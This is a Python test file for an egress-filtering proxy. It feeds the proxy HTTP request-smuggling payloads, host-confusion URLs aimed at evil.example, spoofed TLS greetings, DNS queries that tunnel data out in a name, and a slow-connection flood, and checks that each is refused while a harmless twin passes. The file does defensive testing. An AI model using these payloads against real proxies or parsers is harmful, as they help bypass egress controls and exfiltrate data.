"""What a hostile plugin says at the door, byte by byte: each attack is refused, and its harmless twin passes.

The gate is real and so are its sockets. What matters is what arrived on the other side: nothing, or exactly what was
judged. The probes X02 to X17 stand in `test_egress_gate`, their twins here.
"""

from __future__ import annotations

import asyncio
import socket
import ssl
import struct
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.real.egress_door import Door, Internet, through

from sekisho.egress import stream
from sekisho.egress.hello import ALERT_ACCESS_DENIED

pytestmark = [pytest.mark.real, pytest.mark.threat("T-EGRESS")]

ESTABLISHED = b"HTTP/1.1 200 Connection established\r\n\r\n"
HOST = b"Host: api.example.com"
BODY = b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n"


def post(*fields: bytes, first: bytes = b"POST http://api.example.com/ HTTP/1.1") -> bytes:
    return b"\r\n".join((first, HOST, *fields, b"", BODY))


def get(target: str, *fields: str) -> bytes:
    return "\r\n".join((f"GET {target} HTTP/1.1", *(fields or ("Host: api.example.com",)), "", "")).encode()


def connect(target: str) -> bytes:
    return f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode()


SMUGGLED = {
    "CL.TE": post(b"Content-Length: 60", b"Transfer-Encoding: chunked"),
    "TE.CL": post(b"Transfer-Encoding: chunked", b"Content-Length: 60"),
    "TE.TE": post(b"Transfer-Encoding: chunked", b"Transfer-Encoding: identity"),
    "a coding in two": post(b"Transfer-Encoding: chunked, identity"),
    "a coding nobody knows": post(b"Transfer-Encoding: xchunked"),
    "a space before the colon": post(b"Transfer-Encoding : chunked"),
    "a vertical tab": post(b"Transfer-Encoding:\x0bchunked"),
    "two lengths": post(b"Content-Length: 5", b"Content-Length: 60"),
    "the same length twice": post(b"Content-Length: 5", b"Content-Length: 5"),
    "a list of lengths": post(b"Content-Length: 5, 5"),
    "a signed length": post(b"Content-Length: +5"),
    "a length in hex": post(b"Content-Length: 0x5"),
    "a folded line": post(b"X: a", b" Transfer-Encoding: chunked"),
    "a bare LF between lines": post(b"X: a\nTransfer-Encoding: chunked"),
    "a bare CR in a value": post(b"X: a\rTransfer-Encoding: chunked"),
    "a NUL in a value": post(b"X: a\0b"),
    "a line without a colon": post(b"chunked"),
    "bare LF everywhere": b"GET http://api.example.com/ HTTP/1.1\nHost: api.example.com\n\n\r\n\r\n",
    "a LF in the request line": post(first=b"GET http://api.example.com/\nX HTTP/1.1"),
    "a space in the path": post(first=b"GET http://api.example.com/a b HTTP/1.1"),
    "HTTP/0.9": b"GET http://api.example.com/\r\n\r\n",
    "HTTP/1.0": post(first=b"GET http://api.example.com/ HTTP/1.0"),
    "HTTP/1.2": post(first=b"GET http://api.example.com/ HTTP/1.2"),
    "HTTP/2 with prior knowledge": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "a blank line first": b"\r\n" + post(),
}
CONFUSED = {
    "userinfo in CONNECT": connect("api.example.com@evil.example:443"),
    "userinfo of an address": get("http://user@api.example.com/"),
    "a host as userinfo": get("http://api.example.com@evil.example/"),
    "a password": get("http://api.example.com:80@evil.example/"),
    "a backslash": get("http://evil.example\\@api.example.com/"),
    "no slashes": get("http:api.example.com/"),
    "one slash": get("http:/api.example.com/"),
    "another scheme": get("ftp://api.example.com/"),
    "https in the clear": get("https://api.example.com/"),
    "TLS's port in the clear": get("http://api.example.com:443/", "Host: api.example.com:443"),
    "two ports": get("http://api.example.com:80:443/"),
    "port 0": connect("api.example.com:0"),
    "port 65536": connect("api.example.com:65536"),
    "an octal port": connect("api.example.com:0443"),
    "an empty port": connect("api.example.com:"),
    "no port": connect("api.example.com"),
    "a trailing dot": connect("api.example.com.:443"),
    "a leading dot": connect(".api.example.com:443"),
    "two dots": connect("api..example.com:443"),
    "fullwidth letters": connect("\uff41pi.example.com:443"),
    "an ideographic full stop": connect("api\u3002example.com:443"),
    "the Kelvin sign": connect("api.listed.e\u212aample:443"),
    "a soft hyphen": connect("a\u00adpi.example.com:443"),
    "punycode of something else": connect("xn--pi-7ja.example.com:443"),
    "percent-encoding": connect("api%2eexample.com:443"),
    "a zone": connect("[fe80::1%25lo]:443"),
    "an IPv4-mapped address": connect("[::ffff:127.0.0.1]:443"),
    "an octal address": connect("0177.0.0.1:443"),
    "a star": connect("*.listed.example:443"),
    "the suffix itself": connect("listed.example:443"),
    "two Host headers": get("http://api.example.com/", "Host: api.example.com", "Host: evil.example"),
    "a list of hosts": get("http://api.example.com/", "Host: api.example.com, evil.example"),
    "no Host header": get("http://api.example.com/", "X: y"),
    "another port in Host": get("http://api.example.com/", "Host: api.example.com:8080"),
    "a Host with userinfo": get("http://api.example.com/", "Host: evil.example@api.example.com"),
    "a path alone": get("/"),
    "a star alone": get("*"),
}


@pytest.mark.threat("T-PARSER")
@pytest.mark.parametrize("attack", [*SMUGGLED, *CONFUSED])
def test_nothing_that_can_be_read_in_two_ways_goes_out(tmp_path: Path, attack: str) -> None:
    async def play(door: Door, internet: Internet) -> None:
        answer = await door.raw((SMUGGLED | CONFUSED)[attack])
        assert answer.startswith(b"HTTP/1.1 403 Forbidden\r\n")
        assert internet.seen == []
        assert internet.asked == []

    door = through(tmp_path, asyncio.new_event_loop, play)
    assert [event.allowed for event in door.events] == [False]


CHUNKS = {
    "a size with a space": b"5 \r\nhello\r\n0\r\n\r\n",
    "a size in words": b"0x5\r\nhello\r\n0\r\n\r\n",
    "a negative size": b"-5\r\nhello\r\n0\r\n\r\n",
    "a huge size": b"fffffffffffffffff\r\nhello\r\n0\r\n\r\n",
    "an extension": b"5;a=b\r\nhello\r\n0\r\n\r\n",
    "a bare LF": b"5\nhello\n0\n\n",
    "more than the size": b"5\r\nhellohello\r\n0\r\n\r\n",
    "a trailer": b"0\r\nContent-Length: 50\r\n\r\n",
}


@pytest.mark.threat("T-PARSER")
@pytest.mark.parametrize("attack", CHUNKS)
def test_a_body_that_is_framed_oddly_ends_the_exchange(tmp_path: Path, attack: str) -> None:
    async def play(door: Door, internet: Internet) -> None:
        head = b"\r\n".join(
            (b"POST http://api.example.com/ HTTP/1.1", HOST, b"Transfer-Encoding: chunked", b"", b"")
        )
        await door.raw(head + CHUNKS[attack] + b"GET /smuggled HTTP/1.1\r\n\r\n")
        assert b"smuggled" not in b"".join(internet.seen)

    door = through(tmp_path, asyncio.new_event_loop, play)
    assert [event.reason for event in door.events] == ["the chunked body is malformed"]


TWINS = {
    "X03, X13: the host that is listed": get("http://api.example.com/"),
    "upper case": get("http://API.Example.COM/", "Host: api.EXAMPLE.com"),
    "the port said aloud": get("http://api.example.com:80/", "Host: api.example.com"),
    "X15: below the suffix": get("http://deep.er.listed.example/", "Host: deep.er.listed.example"),
    "punycode of its own": get("http://xn--bcher-kva.listed.example/", "Host: xn--bcher-kva.listed.example"),
    "a query and no path": get("http://api.example.com/?a=b@c&d=http://evil.example/"),
    "an empty body": post(b"Content-Length: 0").removesuffix(BODY),
    "a counted body": post(b"Content-Length: 5").removesuffix(BODY) + b"hello",
    "a chunked body": post(b"Transfer-Encoding: Chunked").removesuffix(BODY) + b"5\r\nhello\r\n0\r\n\r\n",
    "spaces around a value": get("http://api.example.com/", "Host: \t api.example.com \t"),
    "plain HTTP in a tunnel": connect("api.example.com:80") + get("/"),
}


@pytest.mark.parametrize("twin", TWINS)
def test_the_harmless_twin_passes(tmp_path: Path, twin: str) -> None:
    async def play(door: Door, internet: Internet) -> None:
        answer = (await door.raw(TWINS[twin])).removeprefix(ESTABLISHED)
        assert answer.startswith(b"HTTP/1.1 200 OK\r\n")
        assert len(internet.seen) == 1

    door = through(tmp_path, asyncio.new_event_loop, play)
    assert [event.allowed for event in door.events] == [True]


def greeting(name: str | None, *, newest: ssl.TLSVersion = ssl.TLSVersion.TLSv1_3) -> bytes:
    """The first bytes of a real TLS client."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.maximum_version = newest
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with pytest.raises(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname=name).do_handshake()
    return outgoing.read()


def with_extension(hello: bytes, kind: int, content: bytes) -> bytes:
    """The same greeting with one extension more."""
    body = bytearray(hello[9:])
    at = 34 + 1 + body[34]
    at += 2 + int.from_bytes(body[at : at + 2], "big")
    at += 1 + body[at]
    added = struct.pack("!HH", kind, len(content)) + content
    body[at : at + 2] = (int.from_bytes(body[at : at + 2], "big") + len(added)).to_bytes(2, "big")
    body += added
    return (
        b"\x16\x03\x01"
        + (len(body) + 4).to_bytes(2, "big")
        + b"\x01"
        + len(body).to_bytes(3, "big")
        + bytes(body)
    )


def server_name(*names: bytes) -> bytes:
    entries = b"".join(struct.pack("!BH", 0, len(name)) + name for name in names)
    return struct.pack("!H", len(entries)) + entries


NAMELESS = greeting(None)
GREETINGS = {
    "X12: another name": greeting("other.example.com"),
    "X17: no TLS": b"SSH-2.0-OpenSSH_9.6\r\n",
    "X17: HTTP": b"GET / HTTP/1.1\r\nHost: api.example.com\r\n\r\n",
    "no name": NAMELESS,
    "two names in one": with_extension(NAMELESS, 0, server_name(b"api.example.com", b"evil.example")),
    "two extensions": with_extension(greeting("api.example.com"), 0, server_name(b"evil.example")),
    "a name with a NUL": with_extension(NAMELESS, 0, server_name(b"api.example.com\0.evil.example")),
    "a name with a dot behind": with_extension(NAMELESS, 0, server_name(b"api.example.com.")),
    "an empty name": with_extension(NAMELESS, 0, server_name(b"")),
    "an address": with_extension(NAMELESS, 0, server_name(b"93.184.216.34")),
    "an encrypted greeting": with_extension(greeting("api.example.com"), 0xFE0D, b"\0" * 40),
    "another name in TLS 1.2": greeting("evil.example", newest=ssl.TLSVersion.TLSv1_2),
    "SSL 2": bytes((0x80, 0x2E, 0x01, 0x03, 0x01)) + b"\0" * 41,
    "an alert first": bytes((21, 3, 3, 0, 2, 1, 0)) + greeting("api.example.com"),
    "application data first": bytes((23, 3, 3, 0, 4)) + b"data" + greeting("api.example.com"),
    "a record without end": b"\x16\x03\x01\xff\xff" + b"\x01" * 100,
    "crumbs": b"".join(b"\x16\x03\x01\0\1" + bytes((byte,)) for byte in greeting("api.example.com")),
}


@pytest.mark.threat("T-PARSER")
@pytest.mark.parametrize("attack", GREETINGS)
def test_a_greeting_that_does_not_name_its_host_plainly_never_leaves(tmp_path: Path, attack: str) -> None:
    async def play(door: Door, internet: Internet) -> None:
        answer = await door.raw(connect("api.example.com:443") + GREETINGS[attack])
        assert answer in (ESTABLISHED, ESTABLISHED + ALERT_ACCESS_DENIED)
        assert internet.seen == []

    door = through(tmp_path, asyncio.new_event_loop, play)
    (event,) = door.events
    assert (event.allowed, event.host) == (False, "api.example.com")
    assert event.bytes <= len(ESTABLISHED)  # nothing of the greeting went out


@pytest.mark.parametrize("newest", [ssl.TLSVersion.TLSv1_2, ssl.TLSVersion.TLSv1_3])
@pytest.mark.parametrize("size", [1, 7, 10_000])
def test_a_plain_greeting_passes_however_it_is_cut_into_packets(
    tmp_path: Path, newest: ssl.TLSVersion, size: int
) -> None:
    hello = greeting("API.example.com", newest=newest)

    async def play(door: Door, _internet: Internet) -> None:
        reader, writer = await asyncio.open_connection("127.0.0.1", door.proxy)
        writer.write(connect("api.example.com:443"))
        assert await reader.readexactly(len(ESTABLISHED)) == ESTABLISHED
        for at in range(0, len(hello), size):
            writer.write(hello[at : at + size])
            await writer.drain()
        assert (await reader.readexactly(1)) == b"\x16"  # the host's own greeting
        writer.close()

    through(tmp_path, asyncio.new_event_loop, play)


@pytest.mark.threat("T-FLOOD")
def test_a_greeting_that_never_ends_is_given_up_and_holds_nobody_else(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(stream, "OPENING_TIMEOUT_S", 4.0)

    async def play(door: Door, _internet: Internet) -> None:
        slow = [await asyncio.open_connection("127.0.0.1", door.proxy) for _ in range(20)]
        for _reader, writer in slow:
            writer.write(connect("api.example.com:443") + greeting("api.example.com")[:100])
        assert (await door.raw(get("http://api.example.com/"))).startswith(b"HTTP/1.1 200 OK")
        for reader, writer in slow:
            assert await reader.read() == ESTABLISHED
            writer.close()

    door = through(tmp_path, asyncio.new_event_loop, play)
    reasons = [event.reason for event in door.events if not event.allowed]
    assert reasons == ["it took too long to say what it wants"] * 20


def question(name: bytes, kind: int = 1, klass: int = 1, *, counts: tuple[int, ...] = (1, 0, 0, 0)) -> bytes:
    return struct.pack("!6H", 7, 0x0100, *counts) + name + struct.pack("!2H", kind, klass)


def labels(name: str) -> bytes:
    return b"".join(bytes((len(label),)) + label.encode() for label in name.split(".")) + b"\0"


API = labels("api.example.com")
EVIL = labels("evil.example")
NOERROR, FORMERR, NXDOMAIN = 0, 1, 3
TYPES = {
    "A": 1,
    "NS": 2,
    "CNAME": 5,
    "NULL": 10,
    "MX": 15,
    "TXT": 16,
    "AAAA": 28,
    "SRV": 33,
    "HTTPS": 65,
    "ANY": 255,
}


def _questions() -> Iterator[tuple[str, bytes, int | None, bool]]:
    """What is asked, the code of the answer (None: silence), and whether an address comes with it."""
    for kind, number in TYPES.items():
        yield f"{kind} of another name", question(EVIL, number), NXDOMAIN, False
        yield f"{kind} of a listed name", question(API, number), NOERROR, kind == "A"
    stolen = labels("736563726574.tunnel.evil.example")
    yield "data in a name", question(stolen), NXDOMAIN, False
    yield "a suffix attack", question(labels("api.example.com.evil.example")), NXDOMAIN, False
    yield "a prefix attack", question(labels("evilapi.example.com")), NXDOMAIN, False
    yield "the CHAOS class", question(API, 16, 3), NXDOMAIN, False
    yield "any class", question(API, 1, 255), NXDOMAIN, False
    yield "a zone transfer", question(EVIL, 252), NXDOMAIN, False
    yield "a dot in a label", question(b"\x0fapi.example.com\0"), NXDOMAIN, False
    yield "an address as a name", question(labels("127.0.0.1")), NXDOMAIN, False
    yield "localhost", question(labels("localhost")), NXDOMAIN, False
    yield (
        "a name that leads inside is judged when it is dialled",
        question(labels("me.listed.example")),
        NOERROR,
        True,
    )
    yield "upper case", question(labels("API.Example.COM")), NOERROR, True
    yield "EDNS", question(API, counts=(1, 0, 0, 1)) + b"\0\0\x29\x10\0\0\0\0\0\0\0", NOERROR, True
    yield "two questions", question(API, counts=(2, 0, 0, 0)) + EVIL + b"\0\1\0\1", FORMERR, False
    yield "no question", question(API, counts=(0, 0, 0, 0)), FORMERR, False
    yield "65535 questions", question(API, counts=(65535, 0, 0, 0)), FORMERR, False
    yield "an answer inside", question(API, counts=(1, 1, 0, 0)), FORMERR, False
    yield "a pointer to itself", question(b"\xc0\x0c"), FORMERR, False
    yield "a loop of pointers", question(b"\3api\xc0\x0c"), FORMERR, False
    yield "a label of 64", question(b"\x40" + b"a" * 64 + b"\0"), FORMERR, False
    yield "a name of 300", question(labels(".".join(["a" * 50] * 6))), NXDOMAIN, False
    yield "a name without end", question(b"\3api")[:-4], FORMERR, False
    yield "an update", b"\0\7\x28\0" + question(API)[4:], FORMERR, False
    yield "an answer", b"\0\7\x81\x80" + question(API)[4:], None, False
    yield "half a header", b"\0\7\1", None, False
    yield "a large datagram", question(API) + b"x" * 60_000, NOERROR, True


QUESTIONS = {name: (query, code, has_address) for name, query, code, has_address in _questions()}


@pytest.mark.threat("T-REBIND")
def test_no_question_leaves_and_only_listed_names_have_addresses(tmp_path: Path) -> None:
    async def play(door: Door, internet: Internet) -> None:
        loop = asyncio.get_running_loop()
        for name, (query, code, has_address) in QUESTIONS.items():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
                asker.setblocking(False)
                asker.connect(("127.0.0.1", door.names))
                asker.send(query)
                asker.send(question(API))  # whoever gets no answer hears only this one
                first = await loop.sock_recv(asker, 4096)
                if code is None:
                    assert first[3] & 15 == NOERROR, name
                    continue
                assert first[:2] == b"\0\7", name
                assert (first[3] & 15, first[7] == 1) == (code, has_address), name
                if has_address:
                    assert first[-4:-2] == b"\x7f\x01", name
        assert internet.asked == []

    through(tmp_path, asyncio.new_event_loop, play)
